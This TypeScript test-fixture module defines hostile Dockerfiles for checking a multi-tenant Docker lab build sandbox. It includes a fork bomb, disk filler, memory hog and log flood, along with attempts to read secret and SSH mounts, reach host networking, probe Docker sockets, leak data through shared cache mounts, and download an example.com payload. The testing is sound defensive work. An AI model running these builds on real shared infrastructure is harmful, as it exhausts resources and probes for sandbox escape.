// Dockerfiles a hostile (or careless) learner sends, and the neighbour they are sent beside:
// another learner building the node lab's solution. Used by tests/integration/hostile-builds.test.ts
// (each gets a clear message, the neighbour's build succeeds) and bench/noisy-neighbour.ts (how
// much each slows the neighbour down).
import fs from 'node:fs';
import path from 'node:path';
import { config } from '../../server/config.ts';
import { offeredImagesText } from '../../shared/offered-images.ts';

export const LAB = 'multistage-node';

/**
 * The node lab's solution, with a step of its own so its `npm ci` and everything after really
 * run (the layer cache would otherwise answer the whole build in a second).
 */
export function neighbourDockerfile(nonce: string = `${Date.now()}-${Math.random()}`): string {
  const solution = fs.readFileSync(path.join(config.labsDir, LAB, 'solution/Dockerfile'), 'utf8');
  return solution.replace('WORKDIR /app\n', `WORKDIR /app\nRUN echo neighbour ${nonce}\n`);
}

/** A RUN step in exec form running a Node script (no shell quoting to get wrong). */
const nodeRun = (script: string) => `RUN ["node", "-e", ${JSON.stringify(script)}]`;
/** A line that changes every time, so the layer cache never answers for the hostile step. */
const fresh = () => `RUN echo ${Date.now()}-${Math.random()}`;

/** Probes a TCP address and says how it ended: OPEN, SILENT (dropped, no answer) or the error code, with the time. */
export const PROBE_SCRIPT = (targets: ReadonlyArray<readonly [string, number]>, names: readonly string[]) => `
const net = require('net'), dns = require('dns');
const probe = ([host, port]) => new Promise((done) => {
  const started = Date.now();
  const socket = net.connect({ host, port });
  const say = (how) => { console.log('PROBE ' + host + ' ' + port + ' ' + how + ' ' + (Date.now() - started) + 'ms'); socket.destroy(); done(); };
  socket.setTimeout(8000);
  socket.on('connect', () => say('OPEN'));
  socket.on('timeout', () => say('SILENT'));
  socket.on('error', (e) => say(e.code));
});
const lookup = (name) => new Promise((done) => {
  const started = Date.now();
  dns.lookup(name, (error, address) => { console.log('LOOKUP ' + name + ' ' + (error ? error.code : 'RESOLVED ' + address) + ' ' + (Date.now() - started) + 'ms'); done(); });
});
(async () => {
  for (const target of ${JSON.stringify(targets)}) await probe(target);
  for (const name of ${JSON.stringify(names)}) await lookup(name);
  require('http').get('http://${config.sandbox.registryHost}:${config.sandbox.registryPort}/-/ping', (r) => console.log('MIRROR ' + r.statusCode)).on('error', (e) => console.log('MIRROR ' + e.code));
})();
`;

/** An engine's disk (MSLAB_SANDBOX_DISK, e.g. "12G") plus 1 GiB, in MiB. */
const DISK_FILL_MIB = (() => {
  const match = /^(\d+)([MGT])?$/i.exec(config.infra.engineDiskSize);
  const mib = match ? Number(match[1]) * ({ M: 1, G: 1024, T: 1024 * 1024 }[(match[2] ?? 'M').toUpperCase() as 'M' | 'G' | 'T']) : 12 * 1024;
  return mib + 1024;
})();

/** Builds that run (not refused), each aimed at one shared resource. */
export const RUNNING_CASES = {
  'memory hog': () => `FROM node:18-alpine\n${fresh()}\n${nodeRun("const keep = []; for (;;) keep.push(Buffer.alloc(64 << 20, 1));")}\n`,
  // 1 GiB more than an engine's disk: its quota must stop it first; without one it stops
  // there rather than fill the host's disk. It fails either way (exit 1): no image keeps it.
  'disk filler': () => `FROM alpine:3\n${fresh()}\nRUN dd if=/dev/zero of=/fill bs=1M count=${DISK_FILL_MIB}; echo DD-ENDED; exit 1\n`,
  'endless CPU': () => `FROM alpine:3\n${fresh()}\nRUN while :; do :; done\n`,
  'endless sleep': () => `FROM alpine:3\n${fresh()}\nRUN sleep 100000\n`,
  // About 200 KB of log a second for 12 s (BuildKit's own rate limit), then done: more than the
  // server's log cap, which must cut it with a notice while the build goes on.
  'log flood': () => `FROM alpine:3\n${fresh()}\nRUN for i in $(seq 12); do yes 'flood flood flood flood flood flood flood flood' | head -c 200000; sleep 1; done\n`,
  // Last: it can leave the engine unable to start a process. It outlives the wall clock, but
  // ends by itself 5 s after it: on an engine that cannot kill it, its zombies are reaped then
  // rather than pin the engine's process slots for good.
  'fork bomb': () => `FROM alpine:3\n${fresh()}\nRUN bomb() { bomb | bomb & }; bomb; sleep ${config.limits.buildSeconds + 5}\n`,
} satisfies Record<string, () => string>;

/** Builds the lint must refuse before they start, and a word its message must contain. */
export const REFUSED_CASES = {
  'secret mount': { dockerfile: 'FROM node:18-alpine\nRUN --mount=type=secret,id=npmrc cat /run/secrets/npmrc\n', says: 'secret' },
  'SSH mount': { dockerfile: 'FROM alpine:3\nRUN --mount=type=ssh ls /run/buildkit/ssh_agent.0\n', says: 'SSH agent' },
  '--network=host': { dockerfile: 'FROM alpine:3\nRUN --network=host ip addr\n', says: 'network' },
  '--security=insecure': { dockerfile: 'FROM alpine:3\nRUN --security=insecure cat /proc/self/status\n', says: 'privilege' },
  // The message names what is offered (the catalogue, labs/base-images.ts).
  'FROM an unknown image': { dockerfile: 'FROM registry.invalid/evil:1\nRUN true\n', says: offeredImagesText() },
  'COPY --from an unknown image': { dockerfile: 'FROM alpine:3\nCOPY --from=busybox:1.36 /bin/busybox /b\n', says: 'not offered' },
  'another learner’s image': { dockerfile: 'FROM mslab-build/00000000-0000-4000-8000-000000000000\n', says: 'not offered' },
  'ADD of a URL': { dockerfile: 'FROM alpine:3\nADD https://example.com/payload.tgz /payload.tgz\n', says: 'internet' },
} satisfies Record<string, { dockerfile: string; says: string }>;

export const SOCKET_PATHS = ['/var/run/docker.sock', '/run/docker.sock', '/run/sandbox/docker.sock', '/run/buildkit/buildkitd.sock', '/run/containerd/containerd.sock'];

/** Looks for the engine's sockets from inside a RUN step. */
export const dockerSocketDockerfile = () =>
  `FROM node:18-alpine\n${fresh()}\n${nodeRun(`for (const p of ${JSON.stringify(SOCKET_PATHS)}) console.log('SOCKET ' + p + ' ' + (require('fs').existsSync(p) ? 'PRESENT' : 'ABSENT'));`)}\n`;

/** Probes the host, the outside world (IPv4 and IPv6) and DNS from inside a RUN step. */
export const networkDockerfile = (targets: ReadonlyArray<readonly [string, number]>, names: readonly string[]) =>
  `FROM node:18-alpine\n${fresh()}\n${nodeRun(PROBE_SCRIPT(targets, names))}\n`;

/** An app that answers HTTP and writes megabytes of log a second, for the checkpoints to run. */
export const floodingAppDockerfile = () =>
  [
    'FROM node:18-alpine',
    'WORKDIR /app',
    fresh(),
    'USER node',
    'EXPOSE 3000',
    `CMD ["node", "-e", ${JSON.stringify("const line = 'flood '.repeat(200); require('http').createServer((q, r) => r.end('hi')).listen(3000); setInterval(() => { for (let i = 0; i < 200; i++) console.log(line); }, 1);")}]`,
    '',
  ].join('\n');

/** One learner plants a file in a cache mount; another looks for it (with an id, and by target path). */
export const cacheMountDockerfiles = (secret: string) => ({
  plant: `FROM alpine:3\n${fresh()}\nRUN --mount=type=cache,id=shared,target=/c --mount=type=cache,target=/root/.npm sh -c 'echo ${secret} > /c/planted; echo ${secret} > /root/.npm/planted; echo PLANTED'\n`,
  look: `FROM alpine:3\n${fresh()}\nRUN --mount=type=cache,id=shared,target=/c --mount=type=cache,target=/root/.npm sh -c 'echo FOUND: $(cat /c/planted /root/.npm/planted 2>/dev/null) END'\n`,
});

export const syntaxDirectiveDockerfile = () => `# syntax=docker.io/evil/frontend:latest\nFROM alpine:3\n${fresh()}\nRUN echo BUILT-WITH-BUILTIN-FRONTEND\n`;

/** A build's time on the engine: from its `started` message to its `result` (queue time left out). */
export function engineTime(messages: ReadonlyArray<{ message: { type: string }; at: number }>): number | undefined {
  const started = messages.find((r) => r.message.type === 'started')?.at;
  const ended = messages.find((r) => r.message.type === 'result')?.at;
  return started !== undefined && ended !== undefined ? ended - started : undefined;
}
